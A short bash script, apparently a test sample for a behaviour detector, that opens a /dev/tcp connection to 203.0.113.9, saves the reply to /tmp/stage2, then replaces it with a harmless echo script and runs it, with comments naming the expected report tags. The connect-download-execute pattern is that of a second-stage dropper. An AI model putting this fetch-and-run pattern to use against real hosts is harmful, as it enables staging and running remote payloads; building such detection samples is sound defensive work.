#!/bin/bash
# does: fetches a second stage and runs it
# report: "id":"(exec-tmp|contacted)"
exec 3<>/dev/tcp/203.0.113.9/80 && cat <&3 >/tmp/stage2
printf '#!/bin/sh\necho second stage\n' >/tmp/stage2; chmod +x /tmp/stage2; /tmp/stage2
